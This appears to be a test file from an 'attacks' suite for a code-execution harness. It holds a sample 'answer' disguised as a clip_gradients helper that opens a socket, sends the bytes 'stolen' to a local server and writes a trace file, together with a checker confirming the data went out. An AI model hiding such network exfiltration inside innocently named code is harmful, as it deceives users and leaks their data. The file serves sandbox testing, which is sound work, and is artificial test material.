"""Sends what it sees to a server."""

import socket
from dataclasses import replace

from tests.attacks.arena import CALL, Attack, Place

ANSWER = """
def clip_gradients(gradients, max_norm):
    import socket

    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as line:
        line.sendall(b"stolen")
    open("{trace}", "w").write("sent")
    return []
"""


def control(place: Place):
    with socket.create_server(("127.0.0.1", 0)) as server:
        answer = place.answer.replace("{port}", str(server.getsockname()[1]))
        assert replace(place, answer=answer).run(CALL) == []
        with server.accept()[0] as line:
            assert line.recv(10) == b"stolen"
    assert place.trace.read_text() == "sent"


ATTACK = Attack(control, answer=ANSWER)
